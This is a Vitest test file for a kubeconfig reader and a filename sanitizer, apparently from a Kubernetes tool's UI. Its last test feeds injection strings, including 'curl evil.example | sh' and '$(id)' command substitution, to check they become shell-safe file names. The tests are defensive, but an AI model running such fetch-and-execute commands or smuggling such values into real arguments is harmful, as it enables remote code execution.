import { describe, expect, it } from 'vitest'
import { parseYaml } from '../editor/parse-yaml.ts'
import { kubeconfigFile, readKubeconfig } from './KubeconfigField.tsx'

const read = (text: string) => readKubeconfig(text, parseYaml)

const config = `
apiVersion: v1
kind: Config
current-context: b
clusters:
- name: one
  cluster: { server: https://10.0.0.5:6443 }
- name: two
  cluster: { server: https://10.0.0.6:6443 }
contexts:
- name: a
  context: { cluster: one, user: ann }
- name: b
  context: { cluster: two, user: bob }
users: []
`

describe('readKubeconfig', () => {
  it('lists the contexts with server and user, and which one is current', () => {
    expect(read(config)).toEqual({
      current: 'b',
      contexts: [
        { name: 'a', server: 'https://10.0.0.5:6443', user: 'ann' },
        { name: 'b', server: 'https://10.0.0.6:6443', user: 'bob' },
      ],
    })
  })

  it('takes the first context where none is current', () => {
    expect(read(config.replace('current-context: b', ''))).toMatchObject({ current: 'a' })
  })

  it('names the line of broken YAML', () => {
    expect(read('clusters:\n- name: one\n  cluster: {')).toMatchObject({ problem: 'notYaml', line: 3 })
  })

  it.each(['', 'hello', '- 1', 'kind: Pod', 'contexts: 5'])('refuses %j, which is no kubeconfig', (text) => {
    expect(read(text)).toEqual({ problem: 'notKubeconfig' })
  })

  it('refuses what is too large without parsing it', () => {
    expect(read('a'.repeat(1024 * 1024 + 1))).toEqual({ problem: 'tooLarge' })
  })
})

describe('the file of a kubeconfig', () => {
  it.each([
    ['hafen-süd.1', 'hafen-süd.1.kubeconfig'],
    ['two words', 'two-words.kubeconfig'],
    ['x; curl evil.example | sh #', 'x-curl-evil.example-sh-.kubeconfig'],
    ['$(id)`id`"\n\'/..', '-id-id-...kubeconfig'],
  ])('of %s is one word to any shell', (name, file) => {
    expect(kubeconfigFile(name)).toBe(file)
  })
})
